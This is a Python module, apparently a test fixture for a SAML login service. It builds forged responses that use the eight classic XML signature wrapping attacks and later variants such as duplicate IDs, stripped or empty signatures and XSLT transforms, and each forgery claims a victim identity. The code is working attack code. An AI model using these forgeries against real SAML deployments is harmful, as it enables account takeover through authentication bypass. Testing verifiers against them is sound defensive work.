"""Signature wrapping: the eight classic ways (Somorovsky et al., 2012) and what came later, each made from a response
that the provider has signed. Every one of them says that somebody else came."""

from __future__ import annotations

from collections.abc import Callable
from copy import deepcopy

from lxml import etree

from web.sso.assertions import DS, SAML, SAMLP

VICTIM = "root@navy.example"
XML = "{http://www.w3.org/XML/1998/namespace}"

Attack = Callable[[etree._Element], bytes]


def _assertion(response: etree._Element) -> etree._Element:
    found = response.find(f"{SAML}Assertion")
    assert found is not None
    return found


def _evil(assertion: etree._Element, *, id: str = "_evil", signed: bool = False) -> etree._Element:
    """A copy that asserts the victim, without a signature unless it may keep the old one."""
    evil = deepcopy(assertion)
    evil.set("ID", id)
    name = evil.find(f"{SAML}Subject/{SAML}NameID")
    assert name is not None
    name.text = VICTIM
    signature = evil.find(f"{DS}Signature")
    if signature is not None and not signed:
        evil.remove(signature)
    return evil


def _signature(element: etree._Element) -> etree._Element:
    found = element.find(f"{DS}Signature")
    assert found is not None
    return found


def _object(signature: etree._Element) -> etree._Element:
    return etree.SubElement(signature, f"{DS}Object")


def _bytes(response: etree._Element) -> bytes:
    return etree.tostring(response)


# --- the response is signed -------------------------------------------------------------------------------------------


def xsw1(response: etree._Element) -> bytes:
    """An evil response, the signed one within its signature."""
    evil = deepcopy(response)
    evil.set("ID", "_evil")
    evil.replace(_assertion(evil), _evil(_assertion(evil)))
    signed = deepcopy(response)
    signed.remove(_signature(signed))
    _object(_signature(evil)).append(signed)
    return _bytes(evil)


def xsw2(response: etree._Element) -> bytes:
    """An evil response, the signature detached beside the signed one."""
    evil = deepcopy(response)
    evil.set("ID", "_evil")
    evil.replace(_assertion(evil), _evil(_assertion(evil)))
    signed = deepcopy(response)
    signed.remove(_signature(signed))
    evil.insert(list(evil).index(_signature(evil)), signed)
    return _bytes(evil)


# --- the assertion is signed ------------------------------------------------------------------------------------------


def xsw3(response: etree._Element) -> bytes:
    """An evil assertion before the signed one."""
    response.insert(list(response).index(_assertion(response)), _evil(_assertion(response)))
    return _bytes(response)


def xsw4(response: etree._Element) -> bytes:
    """The signed assertion within an evil one."""
    signed = _assertion(response)
    evil = _evil(signed)
    response.replace(signed, evil)
    evil.append(signed)
    return _bytes(response)


def xsw5(response: etree._Element) -> bytes:
    """An evil assertion keeps the signature; the signed one stands at the end without."""
    signed = deepcopy(_assertion(response))
    evil = _evil(signed, signed=True)
    signed.remove(_signature(signed))
    response.replace(_assertion(response), evil)
    response.append(signed)
    return _bytes(response)


def xsw6(response: etree._Element) -> bytes:
    """An evil assertion keeps the signature, within which the signed one stands."""
    signed = deepcopy(_assertion(response))
    evil = _evil(signed, signed=True)
    signed.remove(_signature(signed))
    _signature(evil).append(signed)
    response.replace(_assertion(response), evil)
    return _bytes(response)


def xsw7(response: etree._Element) -> bytes:
    """An evil assertion within Extensions."""
    extensions = etree.Element(f"{SAMLP}Extensions")
    extensions.append(_evil(_assertion(response)))
    response.insert(1, extensions)
    return _bytes(response)


def xsw8(response: etree._Element) -> bytes:
    """The signed assertion within an Object of the evil one's signature."""
    signed = deepcopy(_assertion(response))
    evil = _evil(signed, signed=True)
    signed.remove(_signature(signed))
    _object(_signature(evil)).append(signed)
    response.replace(_assertion(response), evil)
    return _bytes(response)


# --- and since --------------------------------------------------------------------------------------------------------


def same_id(response: etree._Element) -> bytes:
    """Two assertions of one ID."""
    signed = _assertion(response)
    response.insert(0, _evil(signed, id=signed.get("ID") or ""))
    return _bytes(response)


def other_id_attribute(response: etree._Element) -> bytes:
    """An evil assertion that is called so by xml:id (attribute pollution)."""
    signed = _assertion(response)
    evil = _evil(signed)
    del evil.attrib["ID"]
    evil.set(f"{XML}id", signed.get("ID") or "")
    response.insert(0, evil)
    return _bytes(response)


def lower_id(response: etree._Element) -> bytes:
    """The evil assertion is called Id, and the signature is its child."""
    signed = _assertion(response)
    evil = _evil(signed, signed=True)
    evil.set("Id", signed.get("ID") or "")
    response.replace(signed, evil)
    return _bytes(response)


def in_status_detail(response: etree._Element) -> bytes:
    """The signed assertion is hidden in StatusDetail, the evil one is where it belongs."""
    signed = _assertion(response)
    evil = _evil(signed)
    response.replace(signed, evil)
    status = response.find(f"{SAMLP}Status")
    assert status is not None
    etree.SubElement(status, f"{SAMLP}StatusDetail").append(signed)
    return _bytes(response)


def in_advice(response: etree._Element) -> bytes:
    """The signed assertion is in the evil one's Advice."""
    signed = _assertion(response)
    evil = _evil(signed)
    response.replace(signed, evil)
    etree.SubElement(evil, f"{SAML}Advice").append(signed)
    return _bytes(response)


def in_attribute_value(response: etree._Element) -> bytes:
    """The signed assertion is an attribute's value of the evil one."""
    signed = _assertion(response)
    evil = _evil(signed)
    response.replace(signed, evil)
    value = evil.find(f".//{SAML}AttributeValue")
    assert value is not None
    value.append(signed)
    return _bytes(response)


def empty_reference(response: etree._Element) -> bytes:
    """The signature refers to the whole document."""
    signature = _signature(_assertion(response))
    reference = signature.find(f".//{DS}Reference")
    assert reference is not None
    reference.set("URI", "")
    return _bytes(_named(response))


def second_reference(response: etree._Element) -> bytes:
    """The signature has one reference more."""
    info = _signature(_assertion(response)).find(f"{DS}SignedInfo")
    assert info is not None
    info.append(deepcopy(info.find(f"{DS}Reference")))  # type: ignore[arg-type]
    return _bytes(_named(response))


def no_signature(response: etree._Element) -> bytes:
    """The signature is left out."""
    assertion = _assertion(response)
    assertion.remove(_signature(assertion))
    return _bytes(_named(response))


def empty_signature(response: etree._Element) -> bytes:
    """A signature with nothing in it."""
    signature = _signature(_assertion(response))
    for child in list(signature):
        signature.remove(child)
    return _bytes(_named(response))


def without_transforms(response: etree._Element) -> bytes:
    """The signature transforms nothing."""
    return _transformed(response, ())


def with_xslt(response: etree._Element) -> bytes:
    """The signature runs a stylesheet."""
    return _transformed(response, ("http://www.w3.org/TR/1999/REC-xslt-19991116",))


def with_xpath(response: etree._Element) -> bytes:
    """The signature chooses what it signs."""
    return _transformed(response, ("http://www.w3.org/TR/1999/REC-xpath-19991116",))


def void_canonicalisation(response: etree._Element) -> bytes:
    """A relative namespace, at which canonicalisation fails and signs nothing (“The Fragile Lock”)."""
    raw = _bytes(_named(response))
    return raw.replace(b"<saml:Assertion ", b'<saml:Assertion xmlns:x="1" ', 1)


def changed_name(response: etree._Element) -> bytes:
    """The name is another one; the signature is as it was."""
    return _bytes(_named(response))


def _named(response: etree._Element) -> etree._Element:
    name = _assertion(response).find(f"{SAML}Subject/{SAML}NameID")
    assert name is not None
    name.text = VICTIM
    return response


def _transformed(response: etree._Element, algorithms: tuple[str, ...]) -> bytes:
    transforms = _signature(_assertion(response)).find(f".//{DS}Transforms")
    assert transforms is not None
    for child in list(transforms):
        transforms.remove(child)
    for algorithm in algorithms:
        etree.SubElement(transforms, f"{DS}Transform", {"Algorithm": algorithm})
    return _bytes(_named(response))


ON_RESPONSE: tuple[Attack, ...] = (xsw1, xsw2)
ON_ASSERTION: tuple[Attack, ...] = (
    *(xsw3, xsw4, xsw5, xsw6, xsw7, xsw8, same_id, other_id_attribute, lower_id, in_status_detail, in_advice),
    *(in_attribute_value, empty_reference, second_reference, no_signature, empty_signature, without_transforms),
    *(with_xslt, with_xpath, void_canonicalisation, changed_name),
)
